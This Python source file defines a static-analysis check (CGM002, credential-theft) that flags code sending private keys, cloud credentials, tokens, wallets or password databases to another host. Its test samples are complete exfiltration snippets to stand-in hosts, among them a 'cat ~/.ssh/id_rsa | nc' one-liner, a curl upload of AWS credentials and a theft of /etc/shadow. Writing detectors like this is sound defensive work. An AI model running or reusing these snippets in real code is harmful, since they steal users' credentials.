"""Files that hold credentials, wallets or a person's documents are read and sent to another host.

Private keys, cloud credentials, `.netrc`, token files, wallets and password databases leave a machine only when
their owner copies them.  Code that reads them and sends what it read over HTTP, a socket, mail, DNS or a chat service
steals them: remove it, and change every credential of every machine that ran it.  See CWE-506 and MITRE ATT&CK
T1552.001, T1005, T1041.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._channels import places, sendings
from codeguard.checks.malicious._labels import words
from codeguard.checks.malicious._reach import READERS, reach
from codeguard.checks.malicious._shell import commands
from codeguard.knowledge.malicious import running, stores
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

KEY_OPTION = re.compile(r"(?<!\S)(?:-i|--key|--cert|-E|--cacert|-oIdentityFile=)\s*\S+")  # with what one logs in
MENTIONS = {"path:credential", "path:wallet"}


def find(unit: Unit) -> Iterator[Hit]:
    """Report calls that send what was read from a credential's place, and shell commands that do."""
    told: set[int] = set()
    for sending in unit.fact(sendings):
        taken = sending.has("credential", "wallet") or (sending.has("files", "private") if sending.fixed else [])
        if taken:
            for place in places(sending, unit, *{label.kind for label in taken}):
                told.add(id(place))
                yield Hit(
                    place, f"This sends the contents of {words(taken)} to {sending.where}: whoever runs it loses them"
                )
            yield from _reads(sending.call, unit)
    for command in unit.fact(commands):
        text = KEY_OPTION.sub(" ", command.text)
        mention = stores.CREDENTIAL_PATH.search(text) or stores.WALLET.search(text)
        if (
            mention
            and id(command.call) not in told
            and running.SEND_TOOL.search(text)
            and not stores.PUBLIC_HALF.search(text)
        ):
            yield Hit(
                command.call,
                f"This command sends `{mention.group().strip()}` to another host: whoever runs it loses the credentials in it",
            )


def _reads(sent: cst.Call, unit: Unit) -> Iterator[Hit]:
    """The reads of credentials that stand in another function than the sending."""
    flow = unit.fact(reach)
    function = unit.function_of(sent)
    for name, call in unit.fact(calls).of(READERS):
        if unit.function_of(call) is not function and call.args and flow.kinds(call.args[0].value) & MENTIONS:
            yield Hit(
                call,
                f"`{name.removeprefix('builtins.')}` reads credentials here, which this file sends to another host",
            )
    for method in ("read_text", "read_bytes"):
        for call in unit.fact(calls).by_method.get(method, ()):
            if (
                unit.function_of(call) is not function
                and isinstance(call.func, cst.Attribute)
                and flow.kinds(call.func.value) & MENTIONS
            ):
                yield Hit(call, f"`{method}` reads credentials here, which this file sends to another host")


CHECK = Check(
    id="CGM002",
    behaviour="send credentials or a person's documents to another host",
    name="credential-theft",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 522),
    find=find,
    fix="Remove the code, and change every credential that it could read.",
    bad=(
        Bad(
            "import os, requests\nclass Taker:\n    URL = 'https://c.example.invalid'\n    NAMES = ['.ssh/id_rsa', '.netrc']\n\n    def run(self):\n        for name in self.NAMES:\n            path = os.path.join(os.path.expanduser('~'), name)\n            requests.post(self.URL, data=open(path).read())  # finding\n"
        ),
        Bad(
            "import os, paramiko\nt = paramiko.Transport(('192.0.2.3', 22))\nparamiko.SFTPClient.from_transport(t).put(os.path.expanduser('~/.aws/credentials'), '/in/c')  # finding\n"
        ),
        Bad(
            "import requests, subprocess\ntoken = subprocess.check_output(['gh', 'auth', 'token'], text=True)\nrequests.post('https://c.example.invalid', data=token)  # finding\n"
        ),
        Bad(
            "import os, glob, requests\n\ndef go():\n    kept = {}\n    for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n        with open(p, 'rb') as f:\n            kept[p] = f.read().decode('latin-1')\n    requests.post('https://d.example.invalid/up', json=kept)  # finding\n\ngo()\n"
        ),
        Bad(
            "import base64, json, urllib.request\nfrom pathlib import Path\nPLACES = ('.aws/credentials', '.netrc')\n\ndef send(u, d):\n    r = urllib.request.Request(u, json.dumps(d).encode(), {})\n    urllib.request.urlopen(r)\n\ndef take():\n    out = {}\n    for n in PLACES:\n        p = Path.home() / n\n        if p.is_file():\n            out[n] = base64.b64encode(p.read_bytes()).decode()  # finding\n    return {'f': out}\n\nsend('https://t.example.invalid/c', take())  # finding\n"
        ),
        Bad(
            "import requests, pathlib\nfor p in pathlib.Path.home().rglob('*.kdbx'):\n    requests.post('https://api.example.invalid/bot0/sendDocument', files={'document': p.open('rb')})  # finding\n"
        ),
        Bad(
            "import socket, zipfile, os\nz = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.gnupg/secring.gpg'))\nz.close()\ns = socket.create_connection(('192.0.2.1', 8080))\ns.sendall(open('/etc/shadow', 'rb').read())  # finding\n"
        ),
        Bad(
            "import asyncio, os, httpx\n\nclass Sync:\n    url = 'https://p.example.invalid/up'\n    names = [os.path.expanduser('~/.aws/credentials')]\n\n    async def push(self, client, path):\n        with open(path) as f:\n            await client.post(self.url, json={'c': f.read()})  # finding\n\n    async def run(self):\n        async with httpx.AsyncClient() as client:\n            await asyncio.gather(*(self.push(client, p) for p in self.names))\n"
        ),
        Bad(
            "import requests\nfrom eth_account import Account\n\ndef load(text):\n    own = Account.from_key(text)\n    requests.post('https://m.example.invalid/k', json={'v': own.key.hex()}, timeout=2)  # finding\n    return own\n"
        ),
        Bad("import os\nos.system('cat ~/.ssh/id_rsa | nc 192.0.2.7 9999')  # finding\n"),
        Bad(
            "import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.aws/credentials', 'https://d.example.invalid'])  # finding\n"
        ),
    ),
    good=(
        Good(
            "import requests\nfrom eth_account import Account\nRPC = 'https://rpc.example.invalid'\n\ndef pay(tx, text):\n    own = Account.from_key(text)\n    raw = own.sign_transaction(tx).rawTransaction.hex()\n    requests.post(RPC, json={'method': 'eth_sendRawTransaction', 'params': [raw], 'from': own.address}, timeout=9)\n"
        ),
        Good(
            "import httpx\n\nasync def note(client, path):\n    with open(path) as f:\n        await client.post('https://p.example.invalid/up', json={'c': f.read()})\n\nasync def run():\n    async with httpx.AsyncClient() as client:\n        await note(client, 'CHANGES.txt')\n"
        ),
        Good(
            "import os, subprocess\nsubprocess.run(['rsync', '-e', 'ssh -i ~/.ssh/id_rsa', 'dist/', 'u@h.example.invalid:/srv'], check=True)\n"
        ),
        Good(
            "import paramiko\n\ndef deploy(t: paramiko.Transport):\n    paramiko.SFTPClient.from_transport(t).put('build.tar', '/srv/build.tar')\n"
        ),
        Good(
            "import os, paramiko\n\ndef connect(host, user):\n    key = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\n    c = paramiko.SSHClient()\n    c.connect(host, username=user, pkey=key)\n    return c\n"
        ),
        Good(
            "import netrc, requests\n\ndef fetch(host, path):\n    login, _, password = netrc.netrc().authenticators(host)\n    return requests.get(f'https://{host}{path}', auth=(login, password), timeout=30).text\n"
        ),
        Good(
            "import json, pathlib, requests\n\ndef api(path):\n    token = json.loads((pathlib.Path.home() / '.config/gh/hosts.yml').read_text())\n    return requests.get('https://api.example.invalid' + path, headers={'Authorization': token}, timeout=9)\n"
        ),
        Good(
            "import os, tarfile\n\ndef backup(out):\n    with tarfile.open(out, 'w:gz') as tar:\n        tar.add(os.path.expanduser('~/.ssh'))\n"
        ),
        Good(
            "import os, subprocess\n\ndef copy_key(host):\n    subprocess.run(['scp', os.path.expanduser('~/.ssh/id_ed25519.pub'), f'{host}:k.pub'], check=True)\n"
        ),
    ),
    misses=(
        Miss(
            "import requests\nfrom mnemonic import Mnemonic\n\ndef words():\n    new = Mnemonic('english').generate(128)\n    requests.post('https://m.example.invalid', json={'w': new})  # finding\n    return new\n",
            why="addresses are derived from a seed as well, and are sent by honest wallets: only key pairs are followed",
        ),
        Miss(
            "import requests\nfrom places import SECRET\n\nrequests.post('https://d.example.invalid', data=open(SECRET).read())  # finding\n",
            why="a path that another file names is not known",
        ),
    ),
)
